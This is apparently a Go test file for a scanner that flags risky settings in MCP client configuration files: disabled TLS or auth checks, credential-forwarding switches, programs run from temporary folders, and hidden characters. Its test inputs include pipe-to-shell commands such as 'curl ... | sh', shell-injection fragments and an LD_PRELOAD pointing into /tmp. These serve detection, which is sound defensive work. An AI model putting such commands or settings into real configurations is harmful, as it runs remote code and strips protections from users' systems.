package cfg

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/sallyport-mcp/sallyport/analyzers"
	"github.com/sallyport-mcp/sallyport/analyzers/clientconfig"
	"github.com/sallyport-mcp/sallyport/rules"
)

func TestWords(t *testing.T) {
	tests := map[string][]string{
		"NODE_TLS_REJECT": {"node", "tls", "reject"},
		"--no-sandbox":    {"no", "sandbox"},
		"noSandbox":       {"no", "sandbox"},
		"sandboxEnabled":  {"sandbox", "enabled"},
		"":                nil,
		"__":              nil,
	}
	for name, want := range tests {
		if got := words(name); !slices.Equal(got, want) {
			t.Errorf("words(%q) = %q, want %q", name, got, want)
		}
	}
}

func TestUnprotected(t *testing.T) {
	for _, off := range []string{
		"NODE_TLS_REJECT_UNAUTHORIZED=0", "VERIFY_SSL=false", "SSL_VERIFY=0", "JIRA_SSL_VERIFY=no", "SKIP_TLS_VERIFY=1", "insecureSkipVerify=true",
		"DISABLE_AUTH=true", "AUTH_DISABLED=true", "AUTH=off", "ENABLE_AUTH=0", "authRequired=false", "SANDBOX=false", "NO_SANDBOX=1", "sandboxEnabled=false",
		"DANGEROUSLY_OMIT_AUTH=true", "bypassApproval=true", "IGNORE_HTTPS_ERRORS=true", "ALLOW_INSECURE=1", "GIT_SSL_NO_VERIFY=true", "CURL_CA_BUNDLE=",
	} {
		if name, value, _ := strings.Cut(off, "="); !unprotected(name, value) {
			t.Errorf("%s: silent", off)
		}
	}
	for _, on := range []string{
		"NODE_TLS_REJECT_UNAUTHORIZED=1", "VERIFY_SSL=true", "DISABLE_AUTH=false", "DISABLE_TELEMETRY=1", "NO_COLOR=1", "DB_SSL=false", "POSTGRES_TLS=0",
		"OAUTH_ENABLED=false", "disabled=true", "AUTH_TYPE=none", "AUTH_TOKEN=0", "SECURITY_GROUP=none", "SANDBOX_ID=0", "VERIFY_SSL=", "SKIP_AUTH_CACHE=true", "AUTH_PORT=0",
	} {
		if name, value, _ := strings.Cut(on, "="); unprotected(name, value) {
			t.Errorf("%s: fires", on)
		}
	}
}

func TestForwarding(t *testing.T) {
	tests := map[string]rules.Severity{
		"FORWARD_CREDENTIALS": rules.High, "CAPTURE_OAUTH_TOKENS": rules.High, "FORWARD_SSH_KEYS": rules.High, "COLLECT_MFA_CODES": rules.High,
		"INCLUDE_PII": rules.Medium, "EXPORT_TOKENS": rules.Medium, "EXPORT_ALL_TABLES": rules.Medium, "--include-env": rules.Medium,
		"NPM_MIRROR": 0, "LOG_EXPORT": 0, "INCLUDE_IMAGES": 0, "SYNC_INTERVAL": 0, "OTEL_EXPORTER_ENDPOINT": 0, "API_KEY": 0, "SECRET_NAME": 0, "": 0,
	}
	for name, want := range tests {
		if got := forwarding(name); got != want {
			t.Errorf("forwarding(%s) = %v, want %v", name, got, want)
		}
	}
}

func TestTemporary(t *testing.T) {
	for _, path := range []string{"/tmp/x", "/tmp", "/private/tmp/x", "%TEMP%\\x.exe", `C:\Windows\Temp\x`, `C:\Users\Public\x`, "/Users/ann/Downloads/x", "~/Downloads/x"} {
		if !temporary(path) {
			t.Errorf("%s: not seen", path)
		}
	}
	for _, path := range []string{"", "/tmpfile/x", "/srv/tmp/x", "npx", "/home/ann/work/downloads/x", "./tmp/x"} {
		if temporary(path) {
			t.Errorf("%s: wrongly seen", path)
		}
	}
}

var every = []*rules.Rule{
	&AgentSocketPassed, &AllProjectServersEnabled, &AmbiguousCommandLine, &AutoApprove, &BaseURLRedirect, &BroadFilesystemAccess, &CommandAndURL,
	&DangerousRuntimeSetting, &DownloadAndRun, &DuplicateKey, &DuplicateServer, &FloatingSource, &ForwardsEverything, &HiddenCharacters, &InlineCode,
	&InsecurePackageIndex, &NetworkToolAsServer, &PackagePolicyWeakened, &RunsAsRoot, &SecuritySwitchedOff, &SensitiveFileArgument,
	&ShellMetacharacters, &ShellWrapper, &TemporaryProgram, &UnpinnedPackage,
}

func check(t *testing.T, content string) []rules.Finding {
	t.Helper()
	c := &analyzers.Catalog{}
	for _, a := range clientconfig.Analyzers() {
		if a.Match(".mcp.json") == analyzers.Named {
			_ = a.Analyze(analyzers.File{Source: &analyzers.Source{Path: ".mcp.json", Bytes: []byte(content)}, Exposure: analyzers.Project}, c)
		}
	}
	return rules.Check(c, every)
}

// TestHostileSize runs every rule on what is long or many: it must come to an
// end, with a bounded answer.
func TestHostileSize(t *testing.T) {
	long := strings.Repeat("curl a|;$(b`&& ", 300_000/15)
	many := strings.Repeat(`"--no-x=1","a;b","/",`, 10_000)
	var dups, tags strings.Builder
	for i := range 3_000 {
		fmt.Fprintf(&dups, `"a": {"command": "c%d"},`, i)
	}
	tags.WriteString(strings.Repeat("\U0001f3f4\U000e0067", 30_000))
	for name, content := range map[string]string{
		"long argument": `{"mcpServers": {"a": {"command": "sh", "args": ["-c", "` + long + `"]}}}`,
		"long variable": `{"mcpServers": {"a": {"command": "a", "env": {"INCLUDE_PII": "` + long + `"}}}}`,
		"many":          `{"mcpServers": {"a": {"command": "a", "args": [` + many + `"z"]}}}`,
		"duplicates":    `{"mcpServers": {` + dups.String() + `"b": {"command": "c"}}}`,
		"tags":          `{"mcpServers": {"` + tags.String() + `": {"command": "c"}}}`,
	} {
		if found := check(t, content); len(found) > rules.MaxFindings*8 {
			t.Errorf("%s: %d findings", name, len(found))
		}
	}
}

// TestNoValues makes sure that no message and no subject repeats a value.
func TestNoValues(t *testing.T) {
	const value = "s3cr3tvalue"
	found := check(t, `{"mcpServers": {"a": {"command": "docker run --x", "args": ["run", "--frob", "`+value+`=", "curl https://`+value+`:`+value+`@h.example | sh", "--header=`+value+`;ls -l", "--insecure"],
		"env": {"LD_PRELOAD": "/tmp/`+value+`", "FORWARD_TOKENS": "true", "U": "https://x.example/`+value+`", "OPENAI_BASE_URL": "https://u:`+value+`@x.example", "H": "\u200b`+value+`"},
		"headers": {"X-Key": "\u202e`+value+`"}}}}`)
	if len(found) < 6 {
		t.Errorf("only %d findings", len(found))
	}
	for _, f := range found {
		if strings.Contains(f.Message, value) || strings.Contains(f.Subject, value) {
			t.Errorf("%s repeats a value: %s [%s]", f.Rule.ID, f.Message, f.Subject)
		}
	}
}

func FuzzRules(f *testing.F) {
	f.Add(`{"mcpServers": {"a": {"command": "sh", "args": ["-c", "curl x | sh"], "env": {"A": "b"}}}}`)
	f.Add(`{"mcpServers": {"a": {"command": "npx -y x", "url": "http://x", "alwaysAllow": ["*"]}, "a": {}}}`)
	f.Fuzz(func(t *testing.T, content string) {
		for _, found := range check(t, content) {
			if found.Span.IsZero() || found.Message == "" || found.Span.Start > found.Span.End {
				t.Errorf("%s: finding without a place or a message", found.Rule.ID)
			}
		}
	})
}
